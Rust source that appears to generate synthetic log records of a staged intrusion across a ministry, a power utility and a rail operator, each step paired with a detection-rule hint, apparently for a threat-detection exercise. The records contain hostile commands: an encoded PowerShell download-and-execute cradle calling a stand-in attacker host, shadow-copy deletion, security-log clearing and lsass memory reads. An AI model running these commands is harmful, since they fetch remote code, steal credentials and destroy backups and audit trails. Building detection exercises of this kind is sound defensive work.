//! The hidden attack: one document at the ministry, and where it leads.
//!
//! Owns the steps, in order, with the facts that rules find them by. When in the stream they come is the parent's.
//! The address 203.0.113.77 and the name `updates.cdn-sync.example` occur in no ordinary record.

use super::cast::{Address, Host, MINISTRY, POWER, Place, RAIL};
use super::pen::{Connection, Guid, Log, Pen};
use super::programs::{Hashes, POWERSHELL, WORD};
use super::wire::{self, MODBUS_PORT, Signature};

/// One step of the attack, and what should be found of it.
#[derive(Debug)]
pub struct AttackStep {
    /// The organisation that sees it.
    pub org: &'static str,
    /// What happens, in one line; no two steps share it.
    pub title: &'static str,
    /// What a rule can hold on to.
    pub rule_hint: &'static str,
    /// The source of the record.
    pub(super) source: &'static str,
    /// When it comes, in thousandths of the stream.
    pub(super) at_permille: u64,
    /// Writes the record.
    pub(super) write: fn(&mut Pen) -> Vec<u8>,
}

/// Where the attacker's server is.
const SERVER: Address = Address([203, 0, 113, 77]);
/// The name it goes by.
const NAME: &str = "updates.cdn-sync.example";
const HTTPS_PORT: u16 = 443;

const VICTIM: Host = Host { org: &MINISTRY, place: Place::Workstation(14) };
const HISTORIAN: Host = Host { org: &POWER, place: Place::Server(4) };
const DISPATCHER: Host = Host { org: &RAIL, place: Place::Workstation(7) };
const CONTROLLER: Address = Address([10, 99, 1, 20]);

const SHELL: (u64, Guid) = (6_824, Guid(0x2f3a_91c4_68e0_7d15, 0x8801_0000_0000_0400));
const IMPLANT: (u64, Guid) = (7_212, Guid(0x2f3a_91c4_6911_7d15, 0x8c02_0000_0000_0400));
const DROPPED: &str = r"C:\Users\k.tanaka\AppData\Roaming\svchosts.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const SYSTEM: &str = r"NT AUTHORITY\SYSTEM";
// The command is `IEX (New-Object Net.WebClient).DownloadString(…)` with the server's name, in UTF-16.
const ENCODED: &str = "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwB1AHAAZABhAHQAZQBzAC4AYwBkAG4ALQBzAHkAbgBjAC4AZQB4AGEAbQBwAGwAZQAvAGEAJwApAA==";

/// The attack, in order.
pub const ATTACK: &[AttackStep] = &[
    AttackStep {
        org: "ministry",
        title: "Word starts a hidden PowerShell with an encoded command",
        rule_hint: "process_activity: ParentImage ends with WINWORD.EXE, CommandLine has -EncodedCommand",
        source: "ministry-windows",
        at_permille: 205,
        write: word_starts_powershell,
    },
    AttackStep {
        org: "ministry",
        title: "PowerShell asks for the attacker's name",
        rule_hint: "dns_activity: QueryName is updates.cdn-sync.example",
        source: "ministry-windows",
        at_permille: 220,
        write: powershell_resolves,
    },
    AttackStep {
        org: "ministry",
        title: "PowerShell connects to the attacker's server",
        rule_hint: "network_activity: powershell.exe to 203.0.113.77, port 443",
        source: "ministry-windows",
        at_permille: 235,
        write: powershell_connects,
    },
    AttackStep {
        org: "ministry",
        title: "A program with a name close to svchost.exe is written to AppData",
        rule_hint: "file_activity: TargetFilename ends with svchosts.exe below AppData",
        source: "ministry-windows",
        at_permille: 260,
        write: implant_is_written,
    },
    AttackStep {
        org: "ministry",
        title: "A Run key starts that program at every logon",
        rule_hint: "registry_activity: TargetObject below CurrentVersion\\Run, Details below AppData",
        source: "ministry-windows",
        at_permille: 285,
        write: run_key_is_set,
    },
    AttackStep {
        org: "ministry",
        title: "That program reads the memory of lsass.exe",
        rule_hint: "process_access: TargetImage ends with lsass.exe, GrantedAccess 0x1410",
        source: "ministry-windows",
        at_permille: 330,
        write: lsass_is_read,
    },
    AttackStep {
        org: "power",
        title: "A service account logs on by remote desktop from the attacker's server",
        rule_hint: "authentication: EventID 4624, LogonType 10, IpAddress 203.0.113.77",
        source: "power-windows",
        at_permille: 430,
        write: remote_desktop,
    },
    AttackStep {
        org: "power",
        title: "PsExec's service starts a command line",
        rule_hint: "process_activity: ParentImage ends with PSEXESVC.exe",
        source: "power-windows",
        at_permille: 460,
        write: psexec_runs,
    },
    AttackStep {
        org: "power",
        title: "PsExec's service is installed",
        rule_hint: "windows_event: Channel System, EventID 7045, ServiceName PSEXESVC",
        source: "power-windows",
        at_permille: 470,
        write: psexec_is_installed,
    },
    AttackStep {
        org: "power",
        title: "An office host writes to a controller over Modbus",
        rule_hint: "detection_finding_in: signature_id 1117701, severity 1",
        source: "power-ids",
        at_permille: 510,
        write: modbus_write,
    },
    AttackStep {
        org: "power",
        title: "The historian talks with the attacker's server",
        rule_hint: "network_activity: 10.20.0.14 to 203.0.113.77, port 443",
        source: "power-ids",
        at_permille: 540,
        write: power_flow,
    },
    AttackStep {
        org: "power",
        title: "The historian asks for the attacker's name",
        rule_hint: "dns_activity: rrname updates.cdn-sync.example",
        source: "power-ids",
        at_permille: 555,
        write: power_dns,
    },
    AttackStep {
        org: "rail",
        title: "PowerShell loads and runs a script from the attacker's server",
        rule_hint: "script_activity: ScriptBlockText has DownloadString and IEX",
        source: "rail-windows",
        at_permille: 640,
        write: script_is_loaded,
    },
    AttackStep {
        org: "rail",
        title: "Shadow copies are deleted",
        rule_hint: "process_activity: vssadmin.exe with delete shadows",
        source: "rail-windows",
        at_permille: 680,
        write: shadows_are_deleted,
    },
    AttackStep {
        org: "rail",
        title: "wevtutil clears the security log",
        rule_hint: "process_activity: wevtutil.exe cl Security",
        source: "rail-windows",
        at_permille: 710,
        write: log_is_cleared,
    },
    AttackStep {
        org: "rail",
        title: "The security log reports that it was cleared",
        rule_hint: "windows_security: EventID 1102",
        source: "rail-windows",
        at_permille: 715,
        write: log_says_cleared,
    },
    AttackStep {
        org: "rail",
        title: "The dispatcher's host asks for the attacker's name",
        rule_hint: "dns_activity: rrname updates.cdn-sync.example",
        source: "rail-ids",
        at_permille: 760,
        write: rail_dns,
    },
    AttackStep {
        org: "rail",
        title: "The dispatcher's host talks with the attacker's server",
        rule_hint: "network_activity: 10.30.1.7 to 203.0.113.77, port 443",
        source: "rail-ids",
        at_permille: 790,
        write: rail_flow,
    },
];

/// A process that starts.
struct Start {
    host: Host,
    process: (u64, Guid),
    image: &'static str,
    line: &'static str,
    user: &'static str,
    parent: &'static str,
    parent_line: &'static str,
}

fn start(pen: &mut Pen, start: &Start) -> Vec<u8> {
    let (parent_number, parent_guid) = (pen.process_id(), pen.guid());
    let file = start.image.rsplit('\\').next().unwrap_or(start.image);
    process(pen, start.host, 1, start.process, start.image);
    pen.field("OriginalFileName", file);
    pen.field("CommandLine", start.line);
    pen.field("CurrentDirectory", r"C:\Windows\System32\");
    pen.field("User", start.user);
    pen.field("IntegrityLevel", if start.user == SYSTEM { "System" } else { "Medium" });
    pen.field("Hashes", Hashes(start.image));
    pen.field("ParentProcessGuid", parent_guid);
    pen.field("ParentProcessId", parent_number);
    pen.field("ParentImage", start.parent);
    pen.field("ParentCommandLine", start.parent_line);
    pen.windows_done()
}

/// What Sysmon's events of a process share.
fn process(pen: &mut Pen, host: Host, id: u32, process: (u64, Guid), image: &str) {
    pen.windows(host, Log::Sysmon, id);
    pen.field("ProcessGuid", process.1);
    pen.field("ProcessId", process.0);
    pen.field("Image", image);
}

fn word_starts_powershell(pen: &mut Pen) -> Vec<u8> {
    let step = Start {
        host: VICTIM,
        process: SHELL,
        image: POWERSHELL,
        line: ENCODED,
        user: r"MINISTRY\k.tanaka",
        parent: WORD,
        parent_line: r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\k.tanaka\Downloads\invitation.docm""#,
    };
    start(pen, &step)
}

fn powershell_resolves(pen: &mut Pen) -> Vec<u8> {
    process(pen, VICTIM, 22, SHELL, POWERSHELL);
    pen.field("QueryName", NAME);
    pen.field("QueryStatus", "0");
    pen.field("QueryResults", format_args!("::ffff:{SERVER};"));
    pen.windows_done()
}

fn powershell_connects(pen: &mut Pen) -> Vec<u8> {
    process(pen, VICTIM, 3, SHELL, POWERSHELL);
    pen.field("User", r"MINISTRY\k.tanaka");
    pen.field("Protocol", "tcp");
    pen.field("Initiated", "true");
    pen.field("SourceIsIpv6", "false");
    pen.field("SourceIp", VICTIM.address());
    pen.field("SourceHostname", VICTIM);
    pen.field("SourcePort", "50122");
    pen.field("DestinationIsIpv6", "false");
    pen.field("DestinationIp", SERVER);
    pen.field("DestinationHostname", "-");
    pen.field("DestinationPort", HTTPS_PORT);
    pen.field("DestinationPortName", "https");
    pen.windows_done()
}

fn implant_is_written(pen: &mut Pen) -> Vec<u8> {
    process(pen, VICTIM, 11, SHELL, POWERSHELL);
    pen.field("TargetFilename", DROPPED);
    pen.windows_done()
}

fn run_key_is_set(pen: &mut Pen) -> Vec<u8> {
    let (sid, rid) = (MINISTRY.sid, VICTIM.user().rid());
    process(pen, VICTIM, 13, SHELL, POWERSHELL);
    pen.field("EventType", "SetValue");
    let key = r"Software\Microsoft\Windows\CurrentVersion\Run\SyncAgent";
    pen.field("TargetObject", format_args!(r"HKU\{sid}-{rid}\{key}"));
    pen.field("Details", DROPPED);
    pen.windows_done()
}

fn lsass_is_read(pen: &mut Pen) -> Vec<u8> {
    let target = pen.guid();
    pen.windows(VICTIM, Log::Sysmon, 10);
    pen.field("SourceProcessGUID", IMPLANT.1);
    pen.field("SourceProcessId", IMPLANT.0);
    pen.field("SourceImage", DROPPED);
    pen.field("TargetProcessGUID", target);
    pen.field("TargetProcessId", "712");
    pen.field("TargetImage", r"C:\Windows\System32\lsass.exe");
    pen.field("GrantedAccess", "0x1410");
    pen.field("CallTrace", r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|UNKNOWN(000001C2A5B40117)");
    pen.windows_done()
}

fn remote_desktop(pen: &mut Pen) -> Vec<u8> {
    pen.windows(HISTORIAN, Log::Security, 4624);
    pen.field("SubjectUserSid", "S-1-5-18");
    pen.field("SubjectUserName", "PWR-HIST-02$");
    pen.field("SubjectDomainName", POWER.domain);
    pen.field("SubjectLogonId", "0x3e7");
    pen.field("TargetUserSid", format_args!("{}-1187", POWER.sid));
    pen.field("TargetUserName", "svc_backup");
    pen.field("TargetDomainName", POWER.domain);
    pen.field("TargetLogonId", "0x8c1f20");
    pen.field("LogonType", "10");
    pen.field("LogonProcessName", "User32 ");
    pen.field("AuthenticationPackageName", "Negotiate");
    pen.field("WorkstationName", "PWR-HIST-02");
    pen.field("IpAddress", SERVER);
    pen.field("IpPort", "0");
    pen.field("ElevatedToken", "%%1842");
    pen.windows_done()
}

fn psexec_runs(pen: &mut Pen) -> Vec<u8> {
    let step = Start {
        host: HISTORIAN,
        process: (4_908, Guid(0x77b0_4d1e_6b02_7d15, 0x9100_0000_0000_0900)),
        image: CMD,
        line: "cmd.exe /c whoami /all",
        user: SYSTEM,
        parent: r"C:\Windows\PSEXESVC.exe",
        parent_line: r"C:\Windows\PSEXESVC.exe",
    };
    start(pen, &step)
}

fn psexec_is_installed(pen: &mut Pen) -> Vec<u8> {
    pen.windows(HISTORIAN, Log::System, 7045);
    pen.field("ServiceName", "PSEXESVC");
    pen.field("ImagePath", r"%SystemRoot%\PSEXESVC.exe");
    pen.field("ServiceType", "user mode service");
    pen.field("StartType", "demand start");
    pen.field("ServiceAccount", "LocalSystem");
    pen.windows_done()
}

fn modbus_write(pen: &mut Pen) -> Vec<u8> {
    let signature = Signature {
        id: 1_117_701,
        signature: "NOROSHI Modbus write from office network",
        category: "Attempted Administrator Privilege Gain",
        severity: 1,
    };
    let source = (HISTORIAN.address(), 50_344);
    wire::alert(pen, Connection::tcp(source, (CONTROLLER, MODBUS_PORT), "modbus"), signature);
    pen.eve_done()
}

fn power_flow(pen: &mut Pen) -> Vec<u8> {
    outgoing_flow(pen, HISTORIAN)
}

fn power_dns(pen: &mut Pen) -> Vec<u8> {
    question(pen, HISTORIAN)
}

fn script_is_loaded(pen: &mut Pen) -> Vec<u8> {
    let id = pen.guid();
    pen.windows(DISPATCHER, Log::PowerShell, 4104);
    pen.field("MessageNumber", "1");
    pen.field("MessageTotal", "1");
    pen.field(
        "ScriptBlockText",
        format_args!("IEX (New-Object Net.WebClient).DownloadString('http://{SERVER}/a')"),
    );
    pen.field("ScriptBlockId", id);
    pen.field("Path", "");
    pen.windows_done()
}

fn shadows_are_deleted(pen: &mut Pen) -> Vec<u8> {
    let step = Start {
        host: DISPATCHER,
        process: (5_520, Guid(0x51c9_0ae2_6d40_7d15, 0x9500_0000_0000_0700)),
        image: r"C:\Windows\System32\vssadmin.exe",
        line: "vssadmin.exe delete shadows /all /quiet",
        user: SYSTEM,
        parent: POWERSHELL,
        parent_line: "powershell.exe -NoProfile",
    };
    start(pen, &step)
}

fn log_is_cleared(pen: &mut Pen) -> Vec<u8> {
    let step = Start {
        host: DISPATCHER,
        process: (5_612, Guid(0x51c9_0ae2_6d71_7d15, 0x9700_0000_0000_0700)),
        image: r"C:\Windows\System32\wevtutil.exe",
        line: "wevtutil.exe cl Security",
        user: SYSTEM,
        parent: CMD,
        parent_line: "cmd.exe",
    };
    start(pen, &step)
}

fn log_says_cleared(pen: &mut Pen) -> Vec<u8> {
    pen.windows(DISPATCHER, Log::Security, 1102);
    pen.field("SubjectUserSid", "S-1-5-18");
    pen.field("SubjectUserName", "SYSTEM");
    pen.field("SubjectDomainName", "NT AUTHORITY");
    pen.field("SubjectLogonId", "0x3e7");
    pen.windows_done()
}

fn rail_dns(pen: &mut Pen) -> Vec<u8> {
    question(pen, DISPATCHER)
}

fn rail_flow(pen: &mut Pen) -> Vec<u8> {
    outgoing_flow(pen, DISPATCHER)
}

fn outgoing_flow(pen: &mut Pen, host: Host) -> Vec<u8> {
    wire::flow(pen, Connection::tcp((host.address(), 50_351), (SERVER, HTTPS_PORT), "tls"));
    pen.eve_done()
}

fn question(pen: &mut Pen, host: Host) -> Vec<u8> {
    wire::dns(pen, (host.address(), 53_102), host.org, NAME);
    pen.eve_done()
}
